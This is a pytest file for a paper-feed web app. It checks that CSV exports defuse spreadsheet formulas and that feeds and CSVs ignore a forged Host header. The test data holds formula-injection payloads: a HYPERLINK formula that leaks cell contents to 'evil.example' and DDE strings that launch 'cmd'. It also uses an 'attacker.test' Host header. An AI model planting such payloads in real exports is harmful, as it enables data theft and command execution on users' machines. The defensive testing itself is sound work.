"""What the web app writes for other programs (issue #14), on SQLite and PostgreSQL: CSV cells
never run as spreadsheet formulas, and a Host header chosen by a stranger never ends up in a
feed or CSV that a shared cache would hand to others."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import feedparser
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine
from test_web_api import load

from paperfeed.index.claims import catch_up_claims
from paperfeed.web.app import create_app
from paperfeed.web.output import csv_cell
from paperfeed.web.settings import WebSettings

SECRET = "o" * 48
FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click for the PDF")',
            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]
PAPERS = [{"id": f"2601.2000{n}", "title": t,
           "abstract": "Our method achieves a 2.7x speedup and reduces memory by 38%.",
           "authors": ["Mallory"], "categories": ["cs.LG"], "date": "2026-01-05"}
          for n, t in enumerate(FORMULAS, 1)]


@pytest.fixture
def loaded(engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Engine:
    monkeypatch.setenv("PAPERFEED_INDEX_DIR", str(tmp_path / "index"))
    load(engine, tmp_path, PAPERS)
    catch_up_claims(engine)
    return engine


def test_csv_cells_never_start_a_formula(loaded: Engine) -> None:
    with TestClient(create_app(loaded, WebSettings(SECRET, "https://papers.example.org"))) as c:
        r = c.get("/claims.csv")
        titles = {x["paper_id"]: x["title"]
                  for x in c.get("/api/claims", params={"limit": 500}).json()["claims"]}
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.text, newline="")))
    assert len(rows) == 2 * len(PAPERS)
    for row in rows:
        for col, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (col, cell)
        # shown as text: an apostrophe, then the title exactly as stored
        title = titles[row["paper_id"]]
        assert title.startswith(("=", "+", "-", "@")) and row["title"] == "'" + title
        assert float(row["value"]) in (2.7, 38.0)
    assert csv_cell(-0.5) == "-0.5" and csv_cell(3) == 3 and csv_cell(None) == ""
    assert csv_cell("-x") == "'-x" and csv_cell("plain") == "plain"


def test_links_follow_the_configured_base_url_not_the_host_header(loaded: Engine) -> None:
    app = create_app(loaded, WebSettings(SECRET, "https://papers.example.org"))
    with TestClient(app) as c:
        evil = {"Host": "attacker.test"}
        feed = c.get("/feeds/daily.atom?date=2026-01-05", headers=evil)
        parsed = feedparser.parse(feed.content)
        assert parsed.entries and all(e.link.startswith("https://papers.example.org/papers/")
                                      for e in parsed.entries)
        assert b"attacker.test" not in feed.content
        assert feed.headers["cache-control"].startswith("public")
        sheet = c.get("/claims.csv", headers=evil)
        assert "attacker.test" not in sheet.text and "https://papers.example.org/" in sheet.text
        assert sheet.headers["cache-control"].startswith("public")


def test_without_a_base_url_host_built_links_are_never_shared_by_caches(loaded: Engine) -> None:
    with TestClient(create_app(loaded, WebSettings(SECRET))) as c:
        for url in ("/feeds/daily.atom?date=2026-01-05", "/feeds/trending.rss",
                    "/feeds/category/cs.LG.atom", "/claims.csv"):
            r = c.get(url, headers={"Host": "attacker.test"})
            assert r.status_code == 200, url
            cc = r.headers["cache-control"]
            assert cc.startswith("private") and "public" not in cc, (url, cc)
            # a conditional answer carries the same policy
            if "etag" in r.headers:
                again = c.get(url, headers={"Host": "attacker.test",
                                            "If-None-Match": r.headers["etag"]})
                assert again.status_code == 304
                assert again.headers["cache-control"].startswith("private")
